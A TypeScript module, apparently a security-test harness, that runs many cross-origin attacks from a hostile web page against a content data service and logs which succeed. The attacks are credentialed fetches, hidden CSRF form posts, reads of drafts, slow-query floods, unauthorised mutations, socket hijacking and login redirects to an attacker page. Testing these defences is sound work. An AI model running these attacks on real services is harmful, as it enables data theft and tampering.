/** Targets of a hostile page: a service's own port, or the site, which forwards requests. */
export interface Aims {
  /** Addresses of the Content Lake, directly and through the site. */
  lakes: string[]
  /** Addresses that return data to authorised clients. */
  shown: string[]
  /** Addresses that accept data, with the data to send. */
  sent: [address: string, body: string][]
  /** A slow query, a query for drafts, and mutations without permission. */
  slowQuery: string
  draftsQuery: string
  mutations: string
  /** The attacker's own page, to which a sign-in should return. */
  back: string
}

/**
 * Tries every attack that a page can make on another origin. Runs in that page, so it uses nothing outside itself.
 * @returns successes: readable responses, and pictures, scripts and connections that opened
 */
export async function attackFromPage(aims: Aims): Promise<string[]> {
  const { lakes, shown, sent, slowQuery, draftsQuery, mutations, back } = aims
  const got: string[] = []
  const attempts: Promise<unknown>[] = []
  const query = (text: string) =>
    `/v2026-03-01/data/query/production?perspective=raw&query=${encodeURIComponent(text)}`
  const login = (origin: string) => `/v1/auth/login/local?origin=${encodeURIComponent(origin)}`
  const events = (lake: string) =>
    `${lake}/v2026-03-01/data/listen/production?query=${encodeURIComponent('*')}`

  const read = (address: string, init: RequestInit) =>
    fetch(address, init).then(
      (answer) => answer.ok && got.push(`read ${init.method ?? 'GET'} ${address}`),
      () => {},
    )
  const element = (name: 'img' | 'script' | 'iframe', address: string) =>
    new Promise<void>((resolve) => {
      const made = Object.assign(document.createElement(name), { src: address })
      made.addEventListener('error', () => resolve())
      made.addEventListener('load', () => {
        // A frame also loads its error page.
        if (name !== 'iframe') got.push(`${name} ${address}`)
        resolve()
      })
      document.body.append(made)
    })
  const connection = (target: EventTarget & { close(): void }, address: string) =>
    new Promise<void>((resolve) => {
      target.addEventListener('error', () => resolve())
      target.addEventListener('open', () => {
        got.push(`opened ${address}`)
        resolve()
      })
    }).then(() => target.close())
  const form = (address: string, fields: Record<string, string>) => {
    const frame = Object.assign(document.createElement('iframe'), { name: `frame-${address}`, hidden: true })
    const made = Object.assign(document.createElement('form'), {
      action: address,
      method: 'post',
      target: frame.name,
    })
    for (const [name, value] of Object.entries(fields)) {
      made.append(Object.assign(document.createElement('input'), { name, value }))
    }
    document.body.append(frame, made)
    made.submit()
  }

  for (const address of shown) {
    attempts.push(read(address, {}), read(address, { credentials: 'include' }))
    attempts.push(element('img', address), element('script', address), element('iframe', address))
  }
  for (const [address, body] of sent) {
    attempts.push(read(address, { method: 'POST', mode: 'no-cors', credentials: 'include', body }))
    const headers = { 'content-type': 'application/json' }
    attempts.push(read(address, { method: 'POST', credentials: 'include', headers, body }))
    form(address, { body })
  }
  for (const lake of lakes) {
    const mutate = `${lake}/v2026-03-01/data/mutate/production`
    const json = { 'content-type': 'application/json' }
    attempts.push(read(`${lake}${query(draftsQuery)}`, { credentials: 'include' }))
    for (let time = 0; time < 5; time += 1) {
      attempts.push(element('img', `${lake}${query(slowQuery)}`), element('img', `${lake}//`))
    }
    attempts.push(read(mutate, { method: 'POST', credentials: 'include', headers: json, body: mutations }))
    attempts.push(read(mutate, { method: 'POST', credentials: 'include', mode: 'no-cors', body: mutations }))
    attempts.push(connection(new EventSource(events(lake), { withCredentials: true }), events(lake)))
    for (const path of ['/stream', '/v2022-06-30/socket/production']) {
      const address = `${lake.replace('http', 'ws')}${path}`
      attempts.push(connection(new WebSocket(address), address))
    }
    for (const origin of [back, `${new URL(lake).origin}/studio`]) {
      attempts.push(read(`${lake}${login(origin)}`, { method: 'POST', credentials: 'include' }))
      attempts.push(element('iframe', `${lake}${login(origin)}`))
      form(`${lake}${login(origin)}`, {})
      window.open(`${lake}${login(origin)}`)
    }
    form(mutate, { mutations })
  }
  const patience = new Promise((resolve) => setTimeout(resolve, 5_000))
  await Promise.race([Promise.allSettled(attempts), patience])
  return got
}
